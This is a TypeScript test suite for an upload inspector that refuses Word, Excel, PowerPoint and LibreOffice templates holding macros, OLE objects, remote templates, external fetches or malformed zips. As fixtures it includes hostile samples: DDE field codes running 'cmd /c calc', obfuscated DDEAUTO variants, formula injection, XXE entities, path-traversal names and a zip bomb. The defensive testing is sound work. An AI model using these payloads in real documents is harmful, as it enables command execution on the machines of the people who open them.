import { zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { stopWritingDocx } from '../docx/render-docx.ts';
import { LARGEST_UPLOAD } from '../http/body-limits.ts';
import { inspectTemplate } from './inspect-template.ts';
import { inspectTemplateUpload, inspectUpload, stopInspecting } from './inspect-upload.ts';
import { MOST_ENTRIES } from './strict-zip.ts';
import {
	odfParts,
	ourDocx,
	ourXlsx,
	partsOf,
	pptxParts,
	relation,
	relations,
	within,
	zipped,
	type Parts
} from './test-office-files.ts';

let docx: Uint8Array;
let xlsx: Uint8Array;
beforeAll(async () => {
	[docx, xlsx] = await Promise.all([ourDocx(), ourXlsx()]);
});
afterAll(() => Promise.all([stopInspecting(), stopWritingDocx()]));

const reasonsOf = async (file: Uint8Array) => (await inspectTemplate(file)).reasons;
/** Our file of Word with a part changed or added. */
const word = (change: (parts: Parts) => Parts) => {
	const parts = partsOf(docx);
	return reasonsOf(zipped({ ...parts, ...change(parts) }));
};
const BODY = 'word/document.xml';
const BODY_RELATIONS = 'word/_rels/document.xml.rels';
const TYPES = '[Content_Types].xml';
const inBody = (added: string) => word((parts) => ({ [BODY]: within(parts[BODY], added) }));
const leads = (...added: string[]) =>
	word((parts) => ({ [BODY_RELATIONS]: within(parts[BODY_RELATIONS], added.join('')) }));
/** With a part of a kind of its own, to which nothing need lead. */
const holding = (name: string, type: string, part: string | Uint8Array = 'x') =>
	word((parts) => ({
		[TYPES]: within(parts[TYPES], `<Override PartName="/${name}" ContentType="${type}"/>`),
		[name]: part
	}));
const sheet = (added: string) => {
	const parts = partsOf(xlsx);
	const name = 'xl/worksheets/sheet1.xml';
	return reasonsOf(zipped({ ...parts, [name]: within(parts[name], added) }));
};
const written = (...codes: string[]) =>
	`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${codes.map((code) => `<w:r><w:instrText>${code}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>svar</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

describe('R-091 a template that one fills in', () => {
	test('of each kind has nothing against it, and is told by what is in it', async () => {
		const files = {
			docx,
			xlsx,
			pptx: zipped(pptxParts()),
			odt: zipped(odfParts('text')),
			ods: zipped(odfParts('spreadsheet'))
		};
		for (const [kind, file] of Object.entries(files))
			expect(await inspectTemplateUpload(file)).toEqual({ reasons: [], kind, pages: null });
	});

	test('is nothing that an agreement or a consent takes in', async () => {
		expect(await inspectUpload(docx)).toEqual({ reasons: ['not-a-pdf'], pages: null });
	});

	test('may link to pages of the web, to mail and to places in it, have fields that count, and pictures', async () => {
		expect(
			await leads(
				relation('hyperlink', 'https://solby.example/a?b=c&amp;d'),
				relation('image', 'media/x.png', 'Internal')
			)
		).toEqual([]);
		expect(
			await inBody(
				written(' PAGE ') +
					written(' MACROBUTTON NoMacro [Skriv navnet her] ') +
					written(' HYPERLINK "mailto:post@solby.example" ') +
					written(' HYPERLINK \\l "Bilag" \\o "Obs: se bilaget" ')
			)
		).toEqual([]);
		expect(await sheet('<c r="A9"><f>SUM(B1:B2)&amp;"a|b DDE(1)"</f></c>')).toEqual([]);
		const picture = Uint8Array.of(0x89, 0x50, 0x4e, 0x47);
		expect(await holding('word/media/a.png', 'image/png', picture)).toEqual([]);
		const chart = {
			'Object 1/': ['application/vnd.oasis.opendocument.chart', ''] as [string, string],
			'Object 1/content.xml': ['text/xml', '<c/>'] as [string, string],
			'Pictures/a.png': ['image/png', picture] as [string, Uint8Array]
		};
		const inside =
			'<text:a xlink:href="https://solby.example">x</text:a><draw:object xlink:href="./Object 1"/>';
		expect(await reasonsOf(zipped(odfParts('text', inside, chart)))).toEqual([]);
	});
});

describe('a file of Office is refused', () => {
	test.each([
		[
			'a project of macros',
			'word/vbaProject.bin',
			'application/vnd.ms-office.vbaProject',
			'holds-macros'
		],
		[
			'macros by another name',
			'word/a.bin',
			'application/vnd.ms-office.vbaProject',
			'holds-macros'
		],
		[
			'ActiveX',
			'word/activeX/activeX1.xml',
			'application/vnd.ms-office.activeX+xml',
			'holds-controls'
		],
		[
			'an OLE object',
			'word/o.bin',
			'application/vnd.openxmlformats-officedocument.oleObject',
			'holds-objects'
		],
		[
			'a workbook',
			'word/embeddings/a.xlsx',
			'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
			'holds-objects'
		],
		['a program', 'word/a.exe', 'application/x-msdownload', 'holds-objects'],
		[
			'an add-in',
			'word/webextensions/a.xml',
			'application/vnd.ms-office.webextension+xml',
			'holds-addins'
		],
		['a film', 'word/media/a.mp4', 'video/mp4', 'shows-media'],
		[
			'connections',
			'xl/connections.xml',
			'application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml',
			'fetches-from-elsewhere'
		],
		[
			'a link to a workbook',
			'xl/externalLinks/externalLink1.xml',
			'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
			'fetches-from-elsewhere'
		],
		[
			'sheets of macros',
			'xl/macrosheets/a.xml',
			'application/vnd.ms-excel.macrosheet+xml',
			'holds-macros'
		]
	])('for %s', async (_, name, type, reason) => {
		expect(await holding(name, type, '<x/>')).toEqual([reason]);
	});

	test('for a part of no kind, and a picture that is a program or another file', async () => {
		expect(await word(() => ({ 'word/a.exe': 'x' }))).toEqual(['holds-objects']);
		for (const start of ['MZ', 'PK\u0003\u0004', '%PDF-'])
			expect(await holding('word/media/a.png', 'image/png', `${start}…`)).toEqual([
				'holds-objects'
			]);
	});

	test.each([
		['attachedTemplate', 'file:///C:/skabelon.dotx', 'has-template-elsewhere'],
		['attachedTemplate', 'https://ond.example/a.dotm', 'has-template-elsewhere'],
		['image', 'https://ond.example/a.png', 'fetches-from-elsewhere'],
		['frame', 'https://ond.example', 'fetches-from-elsewhere'],
		['externalLinkPath', 'Bog.xlsx', 'fetches-from-elsewhere'],
		['mailMergeSource', 'file:///C:/borgere.xlsx', 'fetches-from-elsewhere'],
		['somethingNew', 'https://ond.example', 'fetches-from-elsewhere'],
		['hyperlink', 'file:///C:/Windows/calc.exe', 'links-to-files'],
		['hyperlink', '\\\\ond.example\\del\\a', 'links-to-files'],
		['hyperlink', 'ms-word:ofe|u|https://ond.example', 'links-to-files']
	])('for what it leads to: %s %s', async (type, target, reason) => {
		expect(await leads(relation(type, target))).toEqual([reason]);
	});

	test('for an object or a text of another file, there or elsewhere, and a way out of the file', async () => {
		expect(await leads(relation('oleObject', 'https://ond.example/a.rtf'))).toEqual([
			'holds-objects',
			'fetches-from-elsewhere'
		]);
		expect(await leads(relation('aFChunk', 'a.html', 'Internal'))).toEqual(['holds-objects']);
		for (const target of ['../../a.xml', 'https://ond.example/a'])
			expect(await leads(relation('header', target, 'Internal'))).toEqual([
				'fetches-from-elsewhere'
			]);
	});

	test.each([
		['DDE', [' DDE cmd "/c calc" ']],
		['DDEAUTO in pieces', [' D', 'DE', 'AUTO cmd ']],
		['DDE in signs', [' &#68;D&#x45; cmd ']],
		['DDE around a note', [' D<!-- x -->DE cmd ']],
		['DDE as it stands', ['<![CDATA[DDE cmd]]>']],
		['a database', [' database \\d "C:\\a" ']]
	])('for a field that asks others: %s', async (_, codes) => {
		expect(await inBody(written(...codes))).toEqual(['asks-others']);
	});

	test('for a field whose word another field writes, and one that is broken off', async () => {
		const quoted =
			'<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText> cmd</w:instrText><w:fldChar w:fldCharType="end"/>';
		expect(await inBody(quoted)).toEqual(['asks-others']);
		expect(await inBody('<w:instrText>DDEAUTO cmd</w:instrText>')).toEqual(['asks-others']);
		expect(await inBody('<x:fldSimple x:instr="DDE cmd"/>')).toEqual(['asks-others']);
	});

	test('for a field that fetches, or leads to a file', async () => {
		for (const code of [
			'INCLUDEPICTURE "https://ond.example/a"',
			'INCLUDETEXT a',
			'LINK Excel.Sheet'
		])
			expect(await inBody(written(code))).toEqual(['fetches-from-elsewhere']);
		for (const code of ['HYPERLINK "file:///C:/a"', 'HYPERLINK "\\\\ond\\a"', 'HYPERLINK "a.exe"'])
			expect(await inBody(written(code))).toEqual(['links-to-files']);
	});

	test('for a formula that asks or fetches, and a data link of DDE', async () => {
		for (const formula of [
			'WEBSERVICE("https://ond.example/"&amp;A1)',
			"cmd|'/c calc'!A0",
			'_xlfn.IMAGE("x")'
		])
			expect(await sheet(`<c><f>${formula}</f></c>`)).toEqual(['asks-others']);
		expect(await sheet('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')).toEqual(['asks-others']);
		expect(await sheet(`<f>'file:///C:/[a.xlsx]Ark'!A1</f>`)).toEqual(['fetches-from-elsewhere']);
	});

	test('for a picture by its address, a drawing with a script, and a slide that starts a program', async () => {
		expect(await inBody('<v:imagedata src="https://ond.example/a.png"/>')).toEqual([
			'fetches-from-elsewhere'
		]);
		const svg = '<svg><script>alert(1)</script><image href="https://ond.example/a"/></svg>';
		expect(await holding('word/media/a.svg', 'image/svg+xml', svg)).toEqual([
			'holds-macros',
			'fetches-from-elsewhere'
		]);
		const parts = pptxParts();
		const slide = 'ppt/slides/slide1.xml';
		parts[slide] = within(parts[slide], '<a:hlinkClick action="ppaction://program"/>');
		expect(await reasonsOf(zipped(parts))).toEqual(['holds-macros']);
	});

	test('where it is one with macros or a template by its kind, whatever it is called, or of two kinds', async () => {
		const as = (type: string) =>
			word((parts) => ({
				[TYPES]: String(parts[TYPES]).replace(
					'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
					type
				)
			}));
		expect(await as('application/vnd.ms-word.document.macroEnabled.main+xml')).toEqual([
			'holds-macros'
		]);
		expect(
			await as('application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml')
		).toEqual(['is-saved-as-template']);
		expect(
			await holding(
				'xl/workbook.xml',
				'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
				'<x/>'
			)
		).toEqual(['broken']);
		// What is opened is another part than the one that says what it is.
		expect(
			await word(() => ({
				'_rels/.rels': relations(relation('officeDocument', 'word/styles.xml', 'Internal'))
			}))
		).toEqual(['broken']);
		expect(await word(() => ({ mimetype: 'application/vnd.oasis.opendocument.text' }))).toEqual([
			'is-two-things'
		]);
	});

	test('where its XML could be read in another way', async () => {
		for (const text of [
			'<!DOCTYPE a [<!ENTITY b "DDE">]><a>&b;</a>',
			'<?xml version="1.0" encoding="utf-7"?><a/>',
			'<a><b',
			Buffer.from('<a/>', 'utf16le')
		])
			expect(await word(() => ({ [BODY]: text }))).toEqual(['broken']);
	});
});

describe('a file of LibreOffice is refused', () => {
	test.each([
		['macros', '', { 'Basic/Standard/Module1.xml': ['text/xml', '<x/>'] }, 'holds-macros'],
		['scripts', '', { 'Scripts/python/a.py': ['', 'import os'] }, 'holds-macros'],
		['an act', '<script:event-listener xlink:href="vnd.sun.star.script:a"/>', {}, 'holds-macros'],
		[
			'an OLE object',
			'<draw:object-ole xlink:href="./a"/>',
			{ a: ['application/vnd.sun.star.oleobject', 'x'] },
			'holds-objects'
		],
		[
			'a text inside',
			'',
			{ 'Object 1/': ['application/vnd.oasis.opendocument.text', ''] },
			'holds-objects'
		],
		['a program', '', { 'Pictures/a.png': ['image/png', 'MZ'] }, 'holds-objects'],
		['DDE', '<text:dde-connection-decl/>', {}, 'asks-others'],
		['a formula', '<table:table-cell table:formula="of:=DDE(&quot;a&quot;)"/>', {}, 'asks-others'],
		[
			'a picture elsewhere',
			'<draw:image xlink:href="https://ond.example/a"/>',
			{},
			'fetches-from-elsewhere'
		],
		[
			'a file beside it',
			'<text:section-source xlink:href="../a.odt"/>',
			{},
			'fetches-from-elsewhere'
		],
		['a frame', '<draw:floating-frame xlink:href="a"/>', {}, 'fetches-from-elsewhere'],
		['its template', '<meta:template xlink:href="../a.ott"/>', {}, 'has-template-elsewhere'],
		['a link to a file', '<text:a xlink:href="file:///C:/a">x</text:a>', {}, 'links-to-files']
	] as [string, string, Record<string, [string, string]>, string][])(
		'for %s',
		async (_, inside, others, reason) => {
			expect(await reasonsOf(zipped(odfParts('text', inside, others)))).toContain(reason);
		}
	);

	test('with a password, as a template, of another kind, and where its two words of what it is differ', async () => {
		const locked = odfParts('text');
		locked['META-INF/manifest.xml'] = within(
			locked['META-INF/manifest.xml'],
			'<manifest:file-entry manifest:full-path="a"><manifest:encryption-data/></manifest:file-entry>'
		);
		expect(await reasonsOf(zipped(locked))).toEqual(['encrypted']);
		expect(await reasonsOf(zipped(odfParts('text-template')))).toEqual(['is-saved-as-template']);
		expect(await reasonsOf(zipped(odfParts('presentation')))).toEqual(['no-kind-that-is-taken']);
		expect(
			await reasonsOf(
				zipped({ ...odfParts('text'), mimetype: 'application/vnd.oasis.opendocument.spreadsheet' })
			)
		).toEqual(['broken']);
		const { mimetype, ...others } = odfParts('text');
		expect(await reasonsOf(zipped({ ...others, mimetype: mimetype! }))).toEqual(['broken']);
	});
});

describe('a zip is refused', () => {
	/** `file` with `bytes` at `at`, and everything behind moved on. */
	const cut = (file: Uint8Array, at: number, bytes: Uint8Array) =>
		Buffer.concat([file.subarray(0, at), bytes, file.subarray(at)]);
	const END = 22;

	test('with something before, behind or between its files', async () => {
		const note = Buffer.from('<script>alert(1)</script>');
		expect(await reasonsOf(cut(docx, 0, note))).toEqual(['no-kind-that-is-taken']);
		expect(await reasonsOf(cut(docx, docx.length, note))).toEqual(['is-two-things']);
		// One whose list is moved on as a careful hand would, so that every reader opens it.
		const file = zipped(partsOf(docx));
		const end = file.length - END;
		const list = new DataView(file.buffer, file.byteOffset).getUint32(end + 16, true);
		const moved = cut(file, list, note);
		moved.writeUInt32LE(list + note.length, end + note.length + 16);
		expect(await reasonsOf(moved)).toEqual(['is-two-things']);
		// A comment of the zip.
		const commented = Buffer.concat([file, note]);
		commented.writeUInt16LE(note.length, file.length - 2);
		expect(await reasonsOf(commented)).toEqual(['is-two-things']);
		// A whole zip before it.
		expect(await reasonsOf(Buffer.concat([zipSync({ a: note }), file]))).toEqual(['is-two-things']);
	});

	test('with a file that is called otherwise where it stands than in the list, or is not what it says', async () => {
		const file = Buffer.from(zipped(partsOf(docx)));
		const renamed = Buffer.from(file);
		renamed.write('X', 30);
		expect(await reasonsOf(renamed)).toEqual(['broken']);
		const changed = Buffer.from(file);
		const listed = file.indexOf(Buffer.from('PK\u0001\u0002', 'latin1'));
		changed[listed + 16]! ^= 1;
		expect(await reasonsOf(changed)).toEqual(['broken']);
		expect((await reasonsOf(file.subarray(0, file.length / 2))).length).toBe(1);
	});

	test.each([
		'../a.xml',
		'word/../../a.xml',
		'/a.xml',
		'a\\b.xml',
		'C:a.xml',
		'word/%2e%2e/a.xml',
		'a\u0000.xml'
	])('with a name that leads out of it: %j', async (name) => {
		expect(await word(() => ({ [name]: 'x' }))).toEqual(['climbs-out']);
	});

	test('with one name twice, whatever its letters', async () => {
		expect(await word(() => ({ 'WORD/Document.xml': '<x/>' }))).toEqual(['names-one-twice']);
		const twice = Buffer.from(zipped({ ...partsOf(docx), 'word/documenx.xml': '<x/>' }));
		for (let at = twice.indexOf('documenx'); at !== -1; at = twice.indexOf('documenx', at))
			twice.write('document', at);
		expect(await reasonsOf(twice)).toEqual(['names-one-twice']);
	});

	test('with a password', async () => {
		const file = Buffer.from(zipped(partsOf(docx)));
		file.writeUInt16LE(file.readUInt16LE(6) | 1, 6);
		const listed = file.indexOf(Buffer.from('PK\u0001\u0002', 'latin1'));
		file.writeUInt16LE(file.readUInt16LE(listed + 8) | 1, listed + 8);
		expect(await reasonsOf(file)).toEqual(['encrypted']);
		const wrapped = Buffer.concat([
			Buffer.from('d0cf11e0a1b11ae1', 'hex'),
			Buffer.from('EncryptedPackage', 'utf16le')
		]);
		expect(await reasonsOf(wrapped)).toEqual(['encrypted']);
	});

	test('that unpacks to too much, says it does not, or holds files without end', async () => {
		const large = zipped({ ...partsOf(docx), 'word/a.xml': new Uint8Array(130_000_000) });
		expect(large.length).toBeLessThan(1_000_000);
		expect(await inspectTemplateUpload(large)).toMatchObject({ reasons: ['unpacks-to-too-much'] });
		// It says 100 bytes.
		const lying = Buffer.from(large);
		const size = Buffer.alloc(4);
		size.writeUInt32LE(130_000_000);
		for (let at = lying.indexOf(size); at !== -1; at = lying.indexOf(size, at))
			lying.writeUInt32LE(100, at);
		expect(await inspectTemplateUpload(lying)).toMatchObject({ reasons: ['broken'] });
		const many = Object.fromEntries(
			Array.from({ length: MOST_ENTRIES }, (_, each) => [`word/${each}.xml`, ''])
		);
		expect(await word(() => many)).toEqual(['unpacks-to-too-much']);
		expect(await inspectTemplateUpload(docx)).toMatchObject({ reasons: [], kind: 'docx' });
	});
});

test.each([
	['nothing', new Uint8Array(0), 'empty'],
	['too much', new Uint8Array(LARGEST_UPLOAD + 1), 'too-large'],
	['a page of the web', Buffer.from('<html>'), 'no-kind-that-is-taken'],
	['a text with commands (RTF)', Buffer.from('{\\rtf1'), 'no-kind-that-is-taken'],
	['a zip of anything', zipSync({ 'a.docx': new Uint8Array(9) }), 'no-kind-that-is-taken'],
	['a file of Word of old', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'of-an-old-kind'],
	['a zip of relations alone', zipped({ '_rels/.rels': relations() }), 'no-kind-that-is-taken'],
	['the name of a PDF alone', Buffer.from('%PDF-1.7'), 'broken']
])('%s is no template', async (_, file, reason) => {
	expect(await inspectTemplateUpload(file)).toMatchObject({ reasons: [reason], pages: null });
});
